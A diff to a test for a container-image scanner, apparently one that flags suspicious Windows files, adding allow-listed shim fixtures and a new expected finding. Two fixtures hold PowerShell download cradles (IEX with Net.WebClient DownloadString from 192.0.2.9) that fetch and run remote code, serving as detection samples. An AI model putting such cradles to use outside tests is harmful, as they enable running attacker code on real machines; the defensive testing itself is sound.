@@ -181,6 +181,25 @@ test('binaries: Windows files in a Linux image, allow-list, shims, a deleted pay
           // Installed software's Windows launchers and Sphinx make.bat: shims; a cradle is not.
           { path: 'usr/share/go-1.19/src/make.bat', content: '@echo off\r\ngo build %*\r\n' },
           { path: 'opt/kafka/bin/windows/kafka-server-start.bat', content: '@echo off\r\njava %*\r\n' },
+          // Official images' layouts: the golang image's toolchain, pnpm (global and in corepack's
+          // cache), the Google Cloud SDK's emulators.
+          { path: 'usr/local/go/src/make.bat', content: '@echo off\r\ngo build %*\r\n' },
+          {
+            path: 'usr/local/lib/node_modules/pnpm/dist/vendor/fastlist-0.3.0-x64.exe',
+            content: buildTestPe(),
+          },
+          {
+            path: 'root/.cache/node/corepack/pnpm/8.15.1/dist/templates/completion.ps1',
+            content: 'Register-ArgumentCompleter -Native -CommandName pnpm -ScriptBlock { param($w) }\r\n',
+          },
+          {
+            path: 'google-cloud-sdk/platform/pubsub-emulator/bin/cloud-pubsub-emulator.bat',
+            content: '@echo off\r\njava -jar %~dp0\\..\\lib\\emulator.jar %*\r\n',
+          },
+          {
+            path: 'usr/local/go/misc/fetch.ps1',
+            content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/z")',
+          },
           {
             path: 'usr/share/app/update.ps1',
             content: 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/y")',
@@ -203,6 +222,7 @@ test('binaries: Windows files in a Linux image, allow-list, shims, a deleted pay
       'app/node_modules/evil-pkg/install.ps1',
       'tmp/inject.dll',
       'usr/local/bin/svchost.exe',
+      'usr/local/go/misc/fetch.ps1',
       'usr/share/app/update.ps1',
     ],
     JSON.stringify(found),
